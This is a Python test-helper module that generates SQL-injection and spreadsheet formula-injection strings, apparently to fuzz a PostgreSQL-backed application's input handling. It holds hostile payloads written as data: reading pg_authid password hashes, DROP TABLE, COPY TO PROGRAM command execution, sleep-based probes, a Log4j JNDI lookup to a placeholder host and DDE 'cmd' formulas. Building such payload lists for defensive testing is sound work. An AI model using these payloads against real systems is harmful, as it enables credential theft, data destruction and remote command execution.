"""Texts with which people try to get into databases and spreadsheets."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

_ENDS = (
    "'",
    '"',
    "')",
    "'))",
    '")',
    "`",
    "]",
    "\\'",
    "%27",
    "''",
    "$$",
    "'::text",
    "\\",
    "",
    " ",
    "1",
    "1)",
    "-1",
    "NULL",
)
_CORES = (
    " OR 1=1",
    " OR 'a'='a",
    " AND 1=0 UNION SELECT NULL",
    " UNION ALL SELECT NULL,NULL,NULL",
    " UNION SELECT rolpassword FROM pg_authid",
    "; DROP TABLE kubescribe.publication",
    "; SELECT pg_sleep(10)",
    " AND 1=(SELECT 1 FROM pg_sleep(10))",
    "||pg_sleep(10)||",
    "; RESET ROLE; CREATE TABLE x ()",
    " || set_config('role','none',true) || ",
    "; COPY pg_authid TO PROGRAM 'id'",
    " AND extractvalue(1,concat(0x7e,version()))",
    " AND CAST(version() AS int)=1",
    " ORDER BY 99",
    " LIMIT 1 OFFSET 1",
    ") AS x(a)",
    "(SELECT 1)",
    " AND ascii(substr((SELECT current_user),1,1))>64",
    " HAVING 1=1",
    " INTO OUTFILE '/tmp/x'",
    "; SET TRANSACTION READ WRITE",
    "::regclass",
    ' COLLATE "C"',
    "${jndi:ldap://x}",
    "{{7*7}}",
)
_TAILS = (
    "",
    "--",
    "-- -",
    "#",
    "/*",
    ";",
    "%00",
    "\n",
    "'",
    '"',
    "/**/",
    ";--",
    "\t",
    "\\",
    " AND '1'='1",
    "\x1a",
    "\u2019",
)
_CASES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda text: text.replace(" ", "/**/"),
    lambda text: text.replace(" ", "\t"),
)


def injections(count: int) -> Iterator[str]:
    """So many different ones, always the same."""
    found: dict[str, None] = {}
    for change, end, core, tail in itertools.product(_CASES, _ENDS, _CORES, _TAILS):
        found.setdefault(change(f"{end}{core}{tail}"))
    assert len(found) >= count, len(found)
    return itertools.islice(iter(found), count)


FORMULAS = tuple(
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "-+")
    for rest in ("", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)*2", "1", '","=1+1', "\n=2")
)
